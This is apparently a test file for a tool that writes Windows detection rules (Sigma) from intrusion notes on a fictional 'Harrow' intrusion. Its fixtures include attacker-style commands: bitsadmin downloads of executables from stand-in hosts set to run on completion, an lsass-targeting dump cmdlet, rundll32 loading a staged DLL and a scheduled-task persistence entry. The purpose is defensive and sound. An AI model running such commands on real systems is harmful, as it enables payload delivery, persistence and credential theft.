import { selfTestRule } from '../evaluate/self-test';
import { selfTestGenerated } from '../generation/self-test-generated';
import { validateRuleDocument } from '../validate/validate-rule';
import { commandFacts } from '@huntforge/observables';
import { generateBuiltinRules } from './builtin-sigma-agent';
import { proseFactRules } from './prose-rules';
import { abusedCmdlets } from './script-cmdlets';
import { bitsJobNamesOf, bitsJobsOf } from './bits-transfers';
import { stagedPayloadPaths, stagedSelection } from './staged-payloads';

// Texts we wrote: the Windows telemetry an intrusion leaves besides its processes.
const article = { title: 'Harrow intrusion notes', url: 'https://notes.example.org/harrow', date: '2026-11-28' };
const evidence = { start: 0, end: 1, text: 'x' };
const rulesOf = (...values: string[]) =>
  generateBuiltinRules({
    article,
    platform: 'windows',
    cmdlines: values.map((value) => ({ evidence, confidence: 0.9, value, executable: '' })),
  });
const asRecord = (rule: unknown) => rule as Record<string, unknown>;
const firesOn = (rule: unknown, value: string) => selfTestRule(asRecord(rule), [{ type: 'cmdline', value }]);

describe('script block rules on abused cmdlets no technique names', () => {
  it('reads the abused cmdlets of a script with the parameters of their own call', () => {
    expect(abusedCmdlets('Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\x.csv -NoTypeInformation')).toEqual([
      { cmdlet: 'Get-ADComputer', parameters: ['-Filter', '-Properties'] },
    ]);
    expect(abusedCmdlets('Invoke-Harrowdump -Target lsass -Force')).toEqual([{ cmdlet: 'Invoke-Harrowdump', parameters: ['-Target'] }]);
    // Plumbing, an everyday cmdlet and PowerShell's own Invoke- cmdlets are no finding by themselves.
    expect(abusedCmdlets('Get-ChildItem C:\\Reports | Sort-Object Length | Out-File r.txt')).toEqual([]);
    expect(abusedCmdlets('Invoke-WebRequest -Uri https://example.org/f.zip -OutFile f.zip')).toEqual([]);
  });

  it('writes a ps_script rule that fires on the script and not on the baseline or an ordinary one', () => {
    const shown = 'powershell.exe -nop -c "Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\ProgramData\\hosts.csv"';
    const drafts = rulesOf(shown).filter((draft) => draft.telemetryClass === 'ps_script');
    expect(drafts.map((draft) => draft.rule.title)).toEqual(['PowerShell Script Calling Get-ADComputer']);
    const rule = drafts[0]?.rule;
    expect(rule?.detection).toEqual({
      selection: { 'ScriptBlockText|contains|all': ['Get-ADComputer', '-Filter', '-Properties'] },
      condition: 'selection',
    });
    expect(validateRuleDocument(asRecord(rule)).findings).toEqual([]);
    const test = firesOn(rule, shown);
    expect(test.fires).toBe(true);
    expect(test.baseline?.fires ?? 0).toBe(0);
    expect(firesOn(rule, 'powershell -c "Get-ADUser -Filter *"').fires).toBe(false);
  });

  it('keeps only the parameters every call gave, so the rule fires on each script', () => {
    const calls = [
      'powershell -c "New-PSDrive -Name Z -PSProvider FileSystem -Root \\\\fs01\\c$"',
      'powershell -c "New-PSDrive Y FileSystem \\\\fs02\\d$ -Persist"',
    ];
    const [rule] = rulesOf(...calls).filter((draft) => draft.telemetryClass === 'ps_script');
    expect(rule?.rule.detection['selection']).toEqual({ 'ScriptBlockText|contains': 'New-PSDrive' });
    for (const call of calls) expect(firesOn(rule?.rule, call).fires).toBe(true);
  });
});

describe('bits-client rules on the hosts BITS jobs downloaded from', () => {
  it('reads bitsadmin and Start-BitsTransfer jobs', () => {
    expect(
      bitsJobsOf('bitsadmin /transfer harrow /download /priority high http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe'),
    ).toEqual([
      expect.objectContaining({ url: 'http://files.harrow-cdn.example/a.exe', file: 'C:\\Users\\Public\\a.exe', title: 'harrow' }),
    ]);
    expect(bitsJobsOf('Start-BitsTransfer -Source https://198.51.100.23/u.dll -Destination $env:TEMP\\u.dll')).toHaveLength(1);
    expect(bitsJobsOf('bitsadmin /list /allusers')).toEqual([]);
  });

  it('keys the transfer on the host, fires on the job and not on another host', () => {
    const shown = 'bitsadmin /transfer harrow /download http://files.harrow-cdn.example/stage.exe C:\\Users\\Public\\stage.exe';
    const rule = rulesOf(shown).find((draft) => JSON.stringify(draft.rule.logsource).includes('bits-client'))?.rule;
    expect(rule?.logsource).toEqual({ product: 'windows', service: 'bits-client' });
    expect(rule?.detection['selection']).toEqual({ EventID: 16403, 'RemoteName|contains': 'files.harrow-cdn.example' });
    expect(validateRuleDocument(asRecord(rule)).findings).toEqual([]);
    const test = firesOn(rule, shown);
    expect(test.fires).toBe(true);
    expect(test.baseline?.fires ?? 0).toBe(0);
    expect(firesOn(rule, 'bitsadmin /transfer x /download http://other.example/s.exe C:\\Users\\Public\\s.exe').fires).toBe(false);
  });
});

const namesOf = (commandLine: string) =>
  commandFacts(commandLine, { platform: 'windows' }).invocations.flatMap((invocation) => bitsJobNamesOf(invocation));
const titleRuleOf = (...values: string[]) =>
  rulesOf(...values).find((draft) => JSON.stringify(draft.rule.detection).includes('jobTitle'))?.rule;

describe('bits-client rules on the names intruders give their BITS jobs', () => {
  it('reads the job a bitsadmin verb or Start-BitsTransfer names, never a URL, a path or a listing', () => {
    expect(namesOf('bitsadmin /create /download HarrowSync')).toEqual(['HarrowSync']);
    expect(namesOf('bitsadmin /create HarrowSync')).toEqual(['HarrowSync']);
    expect(namesOf('bitsadmin /addfile HarrowSync http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe')).toEqual(['HarrowSync']);
    expect(namesOf('bitsadmin /SetNotifyCmdLine HarrowSync C:\\Users\\Public\\a.exe NULL')).toEqual(['HarrowSync']);
    expect(namesOf('Start-BitsTransfer -Source http://x.example/a -Destination C:\\a -DisplayName "Harrow Helper"')).toEqual([
      'Harrow Helper',
    ]);
    expect(namesOf('bitsadmin /list /allusers /verbose')).toEqual([]);
    expect(namesOf('Start-BitsTransfer -Source http://x.example/a -Destination C:\\a')).toEqual([]);
  });

  it('writes one rule on the job created with the reported names that fires on them and nothing else', () => {
    const shown = [
      'bitsadmin /create /download HarrowSync',
      'bitsadmin /addfile HarrowSync http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe',
      'bitsadmin /SetNotifyCmdLine HarrowSync C:\\Users\\Public\\a.exe NULL',
      'bitsadmin /resume HarrowSync',
    ];
    const rule = titleRuleOf(...shown);
    expect(rule?.logsource).toEqual({ product: 'windows', service: 'bits-client' });
    expect(rule?.detection['selection']).toEqual({ EventID: 3, jobTitle: 'HarrowSync' });
    expect(validateRuleDocument(asRecord(rule)).findings).toEqual([]);
    const test = selfTestRule(asRecord(rule), [
      { type: 'cmdline', value: 'bitsadmin /transfer HarrowSync /download http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe' },
    ]);
    expect(test.fires).toBe(true);
    expect(test.baseline?.fires ?? 0).toBe(0);
    expect(selfTestRule(asRecord(rule), [{ type: 'cmdline', value: 'bitsadmin /create /upload HarrowSync' }]).fires).toBe(true);
    expect(selfTestRule(asRecord(rule), [{ type: 'cmdline', value: 'bitsadmin /create OtherSync' }]).fires).toBe(false);
  });

  it('writes no title rule for a default or everyday job name', () => {
    expect(titleRuleOf('bitsadmin /transfer download http://files.harrow-cdn.example/a.exe C:\\Users\\Public\\a.exe')).toBeUndefined();
    expect(titleRuleOf('bitsadmin /create myDownloadJob')).toBeUndefined();
  });
});

describe('file-event rules on payloads staged in user-writable folders', () => {
  it('reads payload paths in user-writable folders, not system or vendor folders, not documents', () => {
    expect(stagedPayloadPaths('rundll32.exe C:\\ProgramData\\Harrow\\hloader.dll,Start')).toEqual(['C:\\ProgramData\\Harrow\\hloader.dll']);
    expect(stagedPayloadPaths('schtasks /create /tn U /tr "%APPDATA%\\hupdate.vbs" /sc onlogon')).toEqual([
      'C:\\Users\\user\\AppData\\Roaming\\hupdate.vbs',
    ]);
    expect(stagedPayloadPaths('C:\\Windows\\System32\\cmd.exe /c C:\\Program Files\\Tool\\t.exe')).toEqual([]);
    expect(stagedPayloadPaths('C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MpCmdRun.exe -Scan')).toEqual([]);
    expect(stagedPayloadPaths('type C:\\Users\\Public\\notes.txt')).toEqual([]);
    expect(stagedSelection('C:\\Users\\kim\\AppData\\Local\\Temp\\hrunner.exe')).toEqual({
      'TargetFilename|contains': '\\AppData\\Local\\Temp\\',
      'TargetFilename|endswith': '\\hrunner.exe',
    });
    // A name made up for the run holds for no other intrusion, except in a folder where no software writes programs.
    expect(stagedSelection('C:\\Users\\kim\\AppData\\Roaming\\a.exe')).toBeNull();
    expect(stagedSelection('C:\\Users\\Public\\a.exe')).toEqual({
      'TargetFilename|contains': ':\\Users\\Public\\',
      'TargetFilename|endswith': '.exe',
    });
  });

  it('writes one rule that fires on the command that used the payload, not on the baseline or another kind of file', () => {
    const shown = 'rundll32.exe C:\\Users\\Public\\Music\\hloader.dll,DllRegister';
    const rule = rulesOf(shown).find((draft) => draft.rule.title === 'Payload Staged In A User-Writable Folder')?.rule;
    expect(rule?.detection['selection']).toEqual({
      'TargetFilename|contains': ':\\Users\\Public\\Music\\',
      'TargetFilename|endswith': '.dll',
    });
    expect(validateRuleDocument(asRecord(rule)).findings).toEqual([]);
    const test = firesOn(rule, shown);
    expect(test.fires).toBe(true);
    expect(test.baseline?.fires ?? 0).toBe(0);
    expect(firesOn(rule, 'rundll32.exe C:\\Users\\Public\\Music\\other.dll,DllRegister').fires).toBe(true);
    expect(firesOn(rule, 'wscript.exe C:\\Users\\Public\\Music\\other.vbs').fires).toBe(false);
  });
});

describe('system-log rule on the drivers the prose says the intruder loaded', () => {
  const text = 'To blind the EDR the operators loaded the vulnerable driver harrowio.sys through a kernel service.';

  it('keys the kernel service install on the driver file and fires on the stated fact only', () => {
    const rule = proseFactRules(article, text, 'windows').find((draft) => draft.telemetryClass === 'service_creation')?.rule;
    expect(rule?.logsource).toEqual({ product: 'windows', service: 'system' });
    expect(rule?.detection['selection']).toEqual({
      Provider_Name: 'Service Control Manager',
      EventID: 7045,
      'ImagePath|endswith': '\\harrowio.sys',
    });
    expect(validateRuleDocument(asRecord(rule)).findings).toEqual([]);
    expect(selfTestGenerated(asRecord(rule), [], text).fires).toBe(true);
    expect(selfTestGenerated(asRecord(rule), [], 'The operators loaded the vulnerable driver otherio.sys.').fires).toBe(false);
  });

  it('keys the driver file written, wherever it was dropped', () => {
    const rule = proseFactRules(article, text, 'windows').find(
      (draft) => draft.rule.title === 'Reported Kernel Driver harrowio.sys Written',
    )?.rule;
    expect(rule?.detection['selection']).toEqual({ 'TargetFilename|endswith': '\\harrowio.sys' });
    expect(selfTestGenerated(asRecord(rule), [], text).fires).toBe(true);
    expect(selfTestGenerated(asRecord(rule), [], text).baseline?.fires ?? 0).toBe(0);
  });
});
